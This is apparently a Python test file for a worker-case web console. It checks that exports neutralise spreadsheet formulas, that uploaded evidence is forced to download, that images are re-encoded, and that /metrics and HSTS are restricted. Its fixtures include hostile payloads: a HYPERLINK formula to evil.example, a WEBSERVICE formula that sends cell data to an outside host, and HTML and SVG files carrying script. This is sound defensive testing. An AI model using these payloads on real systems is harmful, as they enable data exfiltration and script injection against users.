"""What the console hands out is safe to open: exports never carry a live formula, evidence never
runs on the console's origin, /metrics is not public, HSTS behind TLS (issue 16, part 1)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import zipfile
from dataclasses import replace

from openpyxl import load_workbook
from PIL import Image
from starlette.testclient import TestClient

from storage.crypto import KeyRing
from storage.factory import open_store
from tests.storage.test_contract import file_case, write
from tests.web.conftest import World, sign_in, tiny_png
from web.app import create_app

HYPERLINK = '=HYPERLINK("http://evil.example/x","klik")'
WEBSERVICE = '=WEBSERVICE("https://x.example/?"&ENCODEURL(G3&H3))'
HTML_PAGE = b"<html><body><script>fetch('/export.csv')</script>sy mau lapor</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def add_case(world: World, number: str, evidence: bytes, mime: str, **fields: object) -> int:
    """A case filed in Jakarta's office with one evidence file; the attachment's id."""
    keys = json.loads((world.settings.data_dir / "keys.json").read_text())

    async def go() -> int:
        store = open_store(
            world.settings.database_url, KeyRing(keys["master_keys"], keys["index_key"]), settings=world.settings
        )
        await store.start()
        case = file_case(number, country="MY", **fields)
        media = replace(case.attachments[0], mime_type=mime, kind="document")
        await store.commit_turn(write(number, f"u-{number}", None, effects=(replace(case, attachments=(media,)),)))
        async with store.engine.connect() as conn:
            from sqlalchemy import text

            ident = (await conn.execute(text("SELECT max(id) FROM attachments"))).scalar_one()
        await store.save_attachment(int(ident), evidence)
        await store.close()
        return int(ident)

    return asyncio.run(go())


def test_a_workers_formula_is_text_in_both_exports(world: World) -> None:
    add_case(world, "JKT-6789", b"x", "text/plain", worker_name=HYPERLINK, story=WEBSERVICE, city="@SUM(A1)")
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1") as client:
        sign_in(client, "sari")  # a supervisor: the personal export
        rows = list(csv.DictReader(io.StringIO(client.get("/export.csv").text)))
        hostile = next(r for r in rows if r["number"] == "JKT-6789")
        assert hostile["worker_name"] == "'" + HYPERLINK
        assert hostile["story"] == "'" + WEBSERVICE and hostile["city"] == "'@SUM(A1)"
        plain = next(r for r in rows if r["number"] == "JKT-2345")
        assert plain["worker_name"] == "Siti Aminah", "ordinary text is left alone"

        xlsx = client.get("/export.xlsx").content
        sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml, "no formula element anywhere in the sheet"
        book = load_workbook(io.BytesIO(xlsx))
        cells = [c for row in book.active.iter_rows() for c in row if c.value in (HYPERLINK, WEBSERVICE)]
        assert len(cells) == 2 and all(c.data_type == "s" for c in cells), "shown as the text she typed"

        assert client.get("/export.pdf").status_code == 400
        assert client.get("/export.xlsx2").status_code == 400


def test_the_command_line_export_neutralises_too() -> None:
    from launch.cli import rows_to_csv

    out = rows_to_csv([{"number": "A", "worker_name": "+62 812 (=1+1)", "story": "-", "age": -3}])
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["worker_name"] == "'+62 812 (=1+1)" and row["story"] == "'-" and row["age"] == "-3"
    out = rows_to_csv([{"number": "B", "worker_name": "\t=1+1", "story": "\r@SUM(A1)", "city": "Riyadh"}])
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["worker_name"] == "'\t=1+1" and row["story"] == "'\r@SUM(A1)" and row["city"] == "Riyadh"


def test_a_file_that_is_not_a_picture_is_only_ever_downloaded(world: World) -> None:
    files = [
        (HTML_PAGE, "image/jpeg"),
        (SVG, "image/svg+xml"),
        (HTML_PAGE, "text/html"),
        (b"%PDF-1.4", "application/pdf"),
    ]
    ids = [add_case(world, f"JKT-678{i}", evidence, claimed) for i, (evidence, claimed) in enumerate(files)]
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1") as client:
        sign_in(client, "mila")
        for i, ((evidence, _claimed), ident) in enumerate(zip(files, ids, strict=True)):
            r = client.get(f"/cases/JKT-678{i}/attachments/{ident}")
            assert r.status_code == 200 and r.content == evidence, "the evidence itself is kept whole"
            assert r.headers["content-type"] == "application/octet-stream"
            assert r.headers["content-disposition"].startswith("attachment;")
            assert r.headers["x-content-type-options"] == "nosniff"


def test_a_picture_is_shown_inline_only_as_pillows_re_encoding(world: World) -> None:
    photo = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(photo, format="JPEG", exif=Image.Exif())
    original = photo.getvalue() + b"<script>trailing junk</script>"
    ident = add_case(world, "JKT-6789", original, "text/html")
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1") as client:
        sign_in(client, "mila")
        shown = client.get(f"/cases/JKT-6789/attachments/{ident}")
        png = client.get("/cases/JKT-2345/attachments/1")
        download = client.get(f"/cases/JKT-6789/attachments/{ident}?download=1")
    assert shown.headers["content-type"] == "image/jpeg" and shown.headers["content-disposition"].startswith("inline")
    assert shown.content != original and b"script" not in shown.content, "re-encoded, not passed through"
    assert Image.open(io.BytesIO(shown.content)).size == (64, 48)
    assert Image.open(io.BytesIO(png.content)).size == (120, 80) and png.content != tiny_png()
    assert download.headers["content-disposition"].startswith("attachment") and download.content == original


def test_metrics_answer_loopback_or_the_token_only(world: World) -> None:
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1", client=("203.0.113.9", 4000)) as outside:
        assert outside.get("/metrics").status_code == 404
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1", client=("127.0.0.1", 4000)) as local:
        assert "pmi_cases" in local.get("/metrics").text
        proxied = local.get("/metrics", headers={"X-Forwarded-For": "203.0.113.9"})
        assert proxied.status_code == 404, "a local reverse proxy passing on an outside request"
    guarded = replace(world.settings, metrics_token="rahasia-metrik-panjang")
    with TestClient(create_app(guarded), base_url="http://127.0.0.1", client=("203.0.113.9", 4000)) as outside:
        assert outside.get("/metrics").status_code == 404
        assert outside.get("/metrics", headers={"Authorization": "Bearer salah"}).status_code == 404
        r = outside.get("/metrics", headers={"Authorization": "Bearer rahasia-metrik-panjang"})
        assert r.status_code == 200 and "pmi_cases" in r.text


def test_hsts_only_behind_tls(world: World) -> None:
    with TestClient(create_app(world.settings), base_url="http://127.0.0.1") as plain:
        assert "strict-transport-security" not in plain.get("/login").headers
    tls = replace(world.settings, web_https_only=True)
    with TestClient(create_app(tls), base_url="https://127.0.0.1") as client:
        assert client.get("/login").headers["strict-transport-security"].startswith("max-age=31536000")
